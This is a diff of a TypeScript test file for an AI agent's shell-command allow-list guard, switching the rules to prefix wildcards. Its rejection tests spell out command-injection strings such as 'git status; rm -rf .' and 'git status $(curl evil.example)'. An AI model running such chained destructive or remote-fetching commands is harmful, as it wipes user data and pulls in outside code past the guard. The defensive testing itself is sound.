@@ -1,8 +1,10 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { commandPattern, isCommandAllowed } from '../../../src/agent/guards/command-rules.ts';
+import { commandBeginnings, commandPattern, isCommandAllowed } from '../../../src/agent/guards/command-rules.ts';
 import { splitCommand } from '../../../src/agent/guards/command-words.ts';
 
+/** Rules that allow whatever begins with these words. */
+const begin = (...words: string[]): string[] => words.map((beginning) => `${beginning} *`);
 const programs = (line: string): string[] | undefined => splitCommand(line)?.map(({ words }) => words.join(' '));
 
 describe('splitCommand', () => {
@@ -105,13 +107,12 @@ describe('command rules', () => {
 
 	it.each(ATTACKS)('stop %s', (_, line) => {
 		expect(isCommandAllowed(line, [])).toBe(false);
-		expect(isCommandAllowed(line, ['git status', 'ls', 'npm test', 'find', 'xargs', 'env', 'bash', 'timeout'])).toBe(
-			false
-		);
+		const rules = begin('git status', 'ls', 'npm test', 'find', 'xargs', 'env', 'bash', 'timeout');
+		expect(isCommandAllowed(line, rules)).toBe(false);
 	});
 
 	it('stop what is put behind an allowed beginning', () => {
-		const rules = ['git status', 'git fetch', 'git rebase', 'npm test', 'npm run build', 'make', 'cargo build'];
+		const rules = begin('git status', 'git fetch', 'git rebase', 'npm test', 'npm run build', 'make', 'cargo build');
 		for (const line of [
 			'git status; rm -rf .',
 			'git status $(curl evil.example)',
@@ -158,8 +159,8 @@ describe('command rules', () => {
 			'if test -f a; then cat a; fi'
 		])
 			expect([line, isCommandAllowed(line, [])]).toEqual([line, true]);
-		expect(isCommandAllowed('cd packages/a && npm test', ['npm test'])).toBe(true);
-		expect(isCommandAllowed('bash -c "npm test && ls"', ['npm test'])).toBe(true);
+		expect(isCommandAllowed('cd packages/a && npm test', begin('npm test'))).toBe(true);
+		expect(isCommandAllowed('bash -c "npm test && ls"', begin('npm test'))).toBe(true);
 		expect(isCommandAllowed("sed -n '1,5p;w pwned' a", [])).toBe(false);
 	});
 
@@ -187,22 +188,43 @@ describe('command rules', () => {
 		}
 	});
 
+	it('tell a beginning from a line that looks like one', () => {
+		const makes = 'cd /tmp && make';
+		expect(isCommandAllowed(makes, [commandPattern(makes, [])])).toBe(true);
+		expect(isCommandAllowed('make evil', [commandPattern(makes, [])])).toBe(false);
+		expect(isCommandAllowed('npm test -- evil', ['npm test'])).toBe(false);
+		for (const line of [
+			'rm *',
+			'cd /tmp && make *',
+			'echo $(rm x) * && make *',
+			'bash *',
+			'npm run *',
+			' *',
+			'make *\nls *'
+		])
+			expect([line, commandBeginnings(line)]).toEqual([line, null]);
+		expect(commandBeginnings('npm ci * && npm test *')).toEqual([
+			['npm', 'ci'],
+			['npm', 'test']
+		]);
+	});
+
 	it('follow what was allowed, by whole words and only for that', () => {
-		expect(isCommandAllowed('npm test -- --watch', ['npm test'])).toBe(true);
-		expect(isCommandAllowed('npm test && ls', ['npm test'])).toBe(true);
-		expect(isCommandAllowed('npm testing', ['npm test'])).toBe(false);
-		expect(isCommandAllowed('npm test; rm x', ['npm test'])).toBe(false);
-		expect(isCommandAllowed('npm test > x', ['npm test'])).toBe(false);
-		expect(isCommandAllowed('src/evil.sh', ['src/**'])).toBe(false);
+		expect(isCommandAllowed('npm test -- --watch', begin('npm test'))).toBe(true);
+		expect(isCommandAllowed('npm test && ls', begin('npm test'))).toBe(true);
+		expect(isCommandAllowed('npm testing', begin('npm test'))).toBe(false);
+		expect(isCommandAllowed('npm test; rm x', begin('npm test'))).toBe(false);
+		expect(isCommandAllowed('npm test > x', begin('npm test'))).toBe(false);
+		expect(isCommandAllowed('src/evil.sh', begin('src/**'))).toBe(false);
 	});
 
 	it.each([
-		['git commit -m "x"', 'git commit'],
-		['npm run build', 'npm run build'],
-		['npm test', 'npm test'],
-		['make -j4', 'make'],
-		['ls && cargo build --release', 'cargo build'],
-		['npm ci && npm test', 'npm ci && npm test'],
+		['git commit -m "x"', 'git commit *'],
+		['npm run build', 'npm run build *'],
+		['npm test', 'npm test *'],
+		['make -j4', 'make *'],
+		['ls && cargo build --release', 'cargo build *'],
+		['npm ci && npm test', 'npm ci * && npm test *'],
 		['bash -c "rm x"', 'bash -c "rm x"'],
 		['node script.js', 'node script.js'],
 		['echo a > b', 'echo a > b'],
@@ -210,7 +232,8 @@ describe('command rules', () => {
 		['git config core.pager less', 'git config core.pager less'],
 		['git fetch --upload-pack=x', 'git fetch --upload-pack=x'],
 		['export A=1', 'export A=1'],
-		['python -m pytest -q', 'python -m pytest -q']
+		['python -m pytest -q', 'python -m pytest -q'],
+		['cd /tmp && make', 'cd /tmp && make']
 	])('remember of %s: %s', (line, pattern) => {
 		expect(commandPattern(line, [])).toBe(pattern);
 		expect(isCommandAllowed(line, [pattern])).toBe(true);
